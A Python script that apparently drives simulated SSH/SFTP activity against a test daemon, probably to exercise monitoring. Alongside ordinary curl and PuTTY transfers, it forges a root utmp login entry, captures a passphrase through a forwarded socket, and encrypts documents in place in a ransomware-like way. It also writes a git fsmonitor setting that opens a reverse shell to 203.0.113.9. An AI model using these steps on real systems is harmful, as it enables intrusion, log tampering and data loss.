#!/usr/bin/python3 -IS
"""Somebody who reaches the SSH daemon with other tools than OpenSSH's, and who looks after it; not recorded: roamer.py WHAT [VALUE]

curled: files go and come by curl, one of them in two parts · puttied: by PuTTY's tools, a folder among them, after a key that nobody knows ·
withdrawn: a key holds no longer, while who came by it before stays, and the daemon reads its settings anew
entered PATH: a log has an entry more, of somebody who never came · socketed PATH: the daemon opens a socket on its host, by which
somebody there hands a secret to the roamer · locked COUNT: so many documents are there in a form that nobody can read · hooked PATH: settings
of git have a line more
"""
import os, signal, socket, struct, subprocess, sys, time

sys.path.append("/opt/agent")
from client import HOST, KNOWN, LOGIN, OWN, PERSON, attend, run, ssh_keys, started
from partner import Files, text
from person import PID, leave, must_hold, sftp, stay

URL = f"sftp://{HOST}:2222"
CURL = ("curl", "-sSk", "-m", "15", "-u", "agent:", "--key", f"{OWN}/key", "--pubkey", f"{OWN}/key.pub")


def made(name, size):
    path = f"{OWN}/{name}"
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(os.urandom(size))
    return path


def must_be_same(one, other):
    with open(one, "rb") as first, open(other, "rb") as second:
        if first.read() != second.read():
            sys.exit(f"roamer: {one} is not {other}")


def curled(number):
    large = made("large", 90_000 + 60_000 * int(number))
    with open(large, "rb") as whole, open(f"{OWN}/half", "wb") as half:
        half.write(whole.read(50_000))
    run(*CURL, "-T", f"{OWN}/half", f"{URL}/~/slides-{number}.bin")
    run(*CURL, "-C", "-", "-T", large, f"{URL}/~/slides-{number}.bin")
    run(*CURL, "--ftp-create-dirs", "-T", f"{OWN}/note", f"{URL}/~/trip/day-{number}/note.txt", "-T", f"{OWN}/note", f"{URL}/~/documents/trip-{number}.txt")
    run(*CURL, "-l", f"{URL}/~/trip/day-{number}/", "-Q", f"chmod 600 /home/agent/slides-{number}.bin",
        "-Q", f"rename /home/agent/trip/day-{number}/note.txt /home/agent/trip/day-{number}/read.txt")
    run(*CURL, "-o", f"{OWN}/back", f"{URL}/~/slides-{number}.bin", "-o", f"{OWN}/travel", f"{URL}/~/documents/travel.txt")
    must_be_same(f"{OWN}/back", large)
    run(*CURL, "-r", "0-9", "-o", f"{OWN}/part", f"{URL}/~/documents/handbook.txt")
    run(*CURL, "-o", f"{OWN}/none", f"{URL}/~/trip/nothing-of-the-kind", ends=(78,))


def puttied(number):
    home = {**os.environ, "HOME": OWN, "PATH": "/usr/bin"}
    for name in ("key", "other"):
        subprocess.run(["puttygen", f"{OWN}/{name}", "-O", "private", "-o", f"{OWN}/{name}.ppk"], check=True, env=home, stdin=subprocess.DEVNULL)
    shown = subprocess.run(["ssh-keygen", "-lf", "/etc/ssh/ssh_host_ed25519_key.pub"], capture_output=True, text=True).stdout.split()[1]

    def psftp(key, *lines, ends=(0,)):
        with open(f"{OWN}/batch", "w") as batch:
            batch.write("".join(f"{line}\n" for line in lines))
        done = subprocess.run(["psftp", "-batch", "-hostkey", shown, "-i", f"{OWN}/{key}.ppk", "-P", "2222", "-b", f"{OWN}/batch", PERSON],
                              env=home, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=20)
        if done.returncode not in ends:
            sys.exit(f"roamer: psftp ended with {done.returncode}: {done.stderr.decode()}")

    psftp("other", "pwd", ends=(1,))
    for at in range(2 + int(number) % 3):
        made(f"pages/{at}.txt", 900 * (1 + at))
    made("large", 120_000 + 50_000 * int(number))
    psftp("key", f"lcd {OWN}", "put -r pages", f"put large talk-{number}.bin", "ls pages", "mkdir pages/old", "mv pages/0.txt pages/old/", "chmod 640 pages/1.txt")
    time.sleep(0.2 * int(number))
    os.mkdir(f"{OWN}/back")
    psftp("key", f"lcd {OWN}/back", f"get talk-{number}.bin", "cd documents", "mget plan-*.txt", "cd ../pages", "get -r old", "rm old/0.txt", "rmdir old")
    must_be_same(f"{OWN}/back/talk-{number}.bin", f"{OWN}/large")
    must_be_same(f"{OWN}/back/plan-q1.txt", "/home/agent/documents/plan-q1.txt")


def withdrawn(number):
    allowed = "/home/agent/.ssh/authorized_keys"
    with open(allowed) as file, open(f"{OWN}/other.pub") as other:
        both = file.read() + other.read()
    with open(allowed, "w") as file:
        file.write(both)
    by_other = ["ssh", "-F", "none", *KNOWN, "-i", f"{OWN}/other", "-N", "-p", "2222"]
    stays = subprocess.Popen([*by_other, "-M", "-S", f"{OWN}/stays", "-o", "ServerAliveInterval=1", PERSON], stdin=subprocess.DEVNULL)
    while not os.path.exists(f"{OWN}/stays"):  # it is there when the login is done
        time.sleep(0.05)
    with open(f"{allowed}.new", "w") as file:
        file.write(both.splitlines(keepends=True)[0])
    os.rename(f"{allowed}.new", allowed)
    os.kill(started(PID), signal.SIGHUP)
    time.sleep(0.8)
    run(*by_other, PERSON, ends=(255,))
    sftp("ls -l", f"put {OWN}/note note-{number}.txt", f"get documents/survey.txt {OWN}/survey")
    leave(*stay(0.3 * int(number)))
    if stays.poll() is not None:
        sys.exit("roamer: who was there has gone")
    stays.kill()
    stays.wait()


def entered(path):
    """A login that never was, as struct utmp of glibc has it: type, pid, line, id, user, host, exit, session, time, address."""
    before = os.path.getsize(path)
    entry = struct.pack("<hxxi32s4s32s256shhiii4s20x", 7, 4242, b"pts/7", b"ts/7", b"root", b"192.0.2.77", 0, 0, 0, 1767225600, 0, bytes((192, 0, 2, 77)))
    files = Files()
    handle = files.request(Files.OPEN, text(path.encode()) + struct.pack(">II", 2 | 4, 0))[5:]
    answer = files.request(6, handle + struct.pack(">Q", 0) + text(entry))  # SSH_FXP_WRITE
    files.ended()
    with open(path, "rb") as file:
        file.seek(before)
        if answer[5:9] != bytes(4) or file.read() != entry:
            sys.exit("roamer: it has no entry more")


def socketed(path):
    home = socket.socket(socket.AF_UNIX)
    home.bind(f"{OWN}/home")
    home.listen()
    home.settimeout(10)
    session = subprocess.Popen(["ssh", *LOGIN, "-N", "-R", f"{path}:{OWN}/home", "-p", "2222", PERSON], stdin=subprocess.DEVNULL)
    inside = socket.socket(socket.AF_UNIX)
    for _ in range(100):
        time.sleep(0.05)
        try:
            inside.connect(path)
            break
        except OSError:
            pass
    else:
        sys.exit("roamer: there is no socket")
    link, _ = home.accept()
    inside.sendall(b"SETDESC made up\nGET_PASSPHRASE made-up-and-of-no-use\n")
    if b"of-no-use" not in link.recv(200):
        sys.exit("roamer: nothing came")
    link.sendall(b"OK\n")
    inside.recv(3)
    inside.close()
    link.close()
    leave(session, 0.2)


def locked(count):
    """Each is fetched, brought back in another form under another name, and that is renamed to what it was."""
    folder, names = "/home/agent/documents", []
    for at in range(int(count)):
        with open(f"{folder}/diary-{at:02}.txt", "w") as file:
            file.write(f"Made up, day {at}.\n" * 9)
    names = sorted(each for each in os.listdir(folder) if each.endswith(".txt"))
    os.mkdir(f"{OWN}/taken")
    sftp(f"get documents/*.txt {OWN}/taken/")
    for name in names:
        run("openssl", "enc", "-aes-256-ctr", "-pbkdf2", "-k", "made-up", "-in", f"{OWN}/taken/{name}", "-out", f"{OWN}/taken/{name}.part")
    sftp("cd documents", *(f"put {OWN}/taken/{name}.part {name}.part" for name in names), *(f"rename {name}.part {name}" for name in names))
    for name in names:
        must_be_same(f"{folder}/{name}", f"{OWN}/taken/{name}.part")


def hooked(path):
    with open(f"{OWN}/settings", "w") as file:
        file.write("[core]\n\tfsmonitor = /bin/sh -c 'exec 3<>/dev/tcp/203.0.113.9/443; sh <&3'\n")
    run(*CURL, "-a", "-T", f"{OWN}/settings", f"{URL}{path}")
    must_hold(path, "fsmonitor")


USES = {each.__name__: each for each in (curled, puttied, withdrawn, entered, socketed, locked, hooked)}

if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("roamer.py", ssh_keys, PID, lambda: USES[what](value))
